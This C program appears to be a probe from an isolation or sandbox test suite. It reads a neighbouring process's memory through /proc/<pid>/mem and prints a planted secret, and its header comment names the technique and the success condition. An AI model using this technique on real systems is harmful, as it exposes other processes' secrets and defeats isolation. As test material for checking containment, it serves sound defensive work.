/* technique: reads the memory of a process of the host through procfs
 * source: proc_pid_mem(5)
 * success: the neighbour's secret on the output
 * control: outside
 * beside: neighbour
 */
#include "power.h"

int main(void)
{
	char path[64], text[64] = "";

	snprintf(path, sizeof path, "/proc/%d/mem", neighbour());
	int fd = open(path, O_RDONLY);
	if (fd < 0 || pread(fd, text, sizeof text, (off_t)neighbours_secret()) < 0)
		return failed(path);
	return puts(text) < 0;
}
